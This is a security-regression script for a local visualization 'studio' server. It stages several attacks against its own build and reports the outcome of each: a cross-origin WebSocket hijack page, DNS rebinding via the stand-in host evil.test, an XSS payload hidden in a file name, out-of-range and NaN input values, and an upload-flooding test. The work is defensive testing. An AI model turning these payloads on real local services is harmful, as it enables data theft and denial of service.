"""The attacks of issue 17 against any studio build: prints what each one achieved.

Run against this checkout or an older one (a worktree) to compare::

    python tests/studio/attack_report.py                          # this code
    git worktree add /tmp/studio-old <commit>
    PYTHONPATH=/tmp/studio-old/src python tests/studio/attack_report.py

(not a test: ``tests/studio/test_security.py`` asserts the same attacks fail.)
"""

from __future__ import annotations

import http.server
import inspect
import tempfile
import threading
import time
import uuid
from pathlib import Path

import msgspec
import viser
from playwright.sync_api import sync_playwright
from websockets.sync.client import connect

import biomorph.studio.server as studio_server
from biomorph.studio import StudioApp

ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--host-resolver-rules=MAP evil.test 127.0.0.1",
]
XSS = '<img src=x onerror="window.__xss=1">'
CAMERA = {
    "type": "ViewerCameraMessage",
    "wxyz": (1.0, 0, 0, 0),
    "position": (3.0, 3, 3),
    "fov": 1.0,
    "near": 0.01,
    "far": 100.0,
    "image_height": 100,
    "image_width": 100,
    "look_at": (0.0, 0, 0),
    "up_direction": (0.0, 0, 1),
}


def encode(**msg) -> bytes:
    return msgspec.msgpack.encode(msg)


def raw(port: int, origin: str | None = "own"):
    """A websocket client speaking viser's protocol, announced by a camera message."""
    headers = {"Origin": f"http://127.0.0.1:{port}" if origin == "own" else origin}
    ws = connect(
        f"ws://127.0.0.1:{port}/",
        subprotocols=[f"viser-v{viser.__version__}"],
        additional_headers={k: v for k, v in headers.items() if v},
        max_size=None,
        open_timeout=10,
    )
    ws.send(msgspec.msgpack.encode(CAMERA))
    return ws


def evil_page(port: int) -> bytes:
    return (
        f"<script>window.r={{bytes:0,closed:false}};"
        f'const ws=new WebSocket("ws://127.0.0.1:{port}/",["viser-v{viser.__version__}"]);'
        'ws.binaryType="arraybuffer";ws.onmessage=e=>{window.r.bytes+=e.data.byteLength};'
        "ws.onclose=()=>{window.r.closed=true};"
        "setTimeout(()=>{window.r.closed=true},6000);</script>"
    ).encode()


def browser_attacks(port: int, res: dict) -> None:
    page_bytes = evil_page(port)

    class Evil(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page_bytes)

        def log_message(self, *args):
            pass

    evil = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    with sync_playwright() as pw:
        b = pw.chromium.launch(executable_path="/usr/bin/chromium", args=ARGS)
        p = b.new_page()
        p.goto(f"http://127.0.0.1:{evil.server_address[1]}/")
        p.wait_for_function("window.r.closed", timeout=20000)
        res["cross-origin websocket: bytes of state received"] = p.evaluate("window.r.bytes")
        r = b.new_page().goto(f"http://evil.test:{port}/")
        res["DNS rebinding: HTTP status for Host evil.test"] = r.status
        b.close()
    evil.shutdown()


def protocol_attacks(app, res: dict) -> None:
    port = app.port
    try:
        raw(port, origin=None).close()
        res["client without Origin"] = "accepted"
    except Exception as exc:  # noqa: BLE001 - the refusal is the result
        res["client without Origin"] = f"refused ({type(exc).__name__})"
    while not app.tabs.get("tree"):
        time.sleep(0.2)
    files, tree = app.tabs["files"], app.tabs["tree"]
    files.run("open", lambda: files.open(f"{XSS}.xyz"))
    res["XSS: raw <img in the status markdown"] = "<img" in files.status.content
    with raw(port) as ws:
        for h, v in ((tree.n_points, 300000), (tree.seed, float("nan"))):
            ws.send(encode(type="GuiUpdateMessage", uuid=h._impl.uuid, updates={"value": v}))
        time.sleep(1.5)
    res["range: scan points after sending 300000"] = tree.n_points.value
    res["range: seed after sending NaN"] = tree.seed.value
    button, tid = tree.picker.upload._impl.uuid, str(uuid.uuid4())
    try:
        with raw(port) as ws:
            ws.send(
                encode(
                    type="FileTransferStartUpload",
                    source_component_uuid=button,
                    transfer_uuid=tid,
                    filename="big.xyz",
                    mime_type="text/plain",
                    part_count=100000,
                    size_bytes=1000,
                )
            )
            for i in range(40):
                ws.send(
                    encode(
                        type="FileTransferPart",
                        source_component_uuid=button,
                        transfer_uuid=tid,
                        part_index=i,
                        content=b"1" * 500_000,
                    )
                )
            time.sleep(3)  # measured while the client is still connected
            held = buffered(app)
    except Exception as exc:  # noqa: BLE001 - a closed connection is the defence
        print("upload client:", type(exc).__name__)
        held = buffered(app)
    res["upload: MB buffered after declaring 1 kB and streaming 20 MB"] = round(held / 1e6, 1)


def buffered(app) -> int:
    states = app.server.gui._current_file_upload_states
    return sum(len(x) for s in list(states.values()) for x in s["parts"].values())


def main() -> None:
    print("code:", studio_server.__file__)
    data = Path(tempfile.mkdtemp())
    (data / f"{XSS}.xyz").write_text("not numbers\n")
    shared = "shared" in inspect.signature(StudioApp).parameters
    app = StudioApp(
        data,
        port=0,
        max_upload_bytes=1_000_000,
        tabs=["files", "tree"],
        **({"shared": True} if shared else {}),
    )
    app.start()
    res: dict = {}
    try:
        browser_attacks(app.port, res)
        protocol_attacks(app, res)
    finally:
        app.stop()
    for k, v in res.items():
        print(f"  {k}: {v}")


if __name__ == "__main__":
    main()
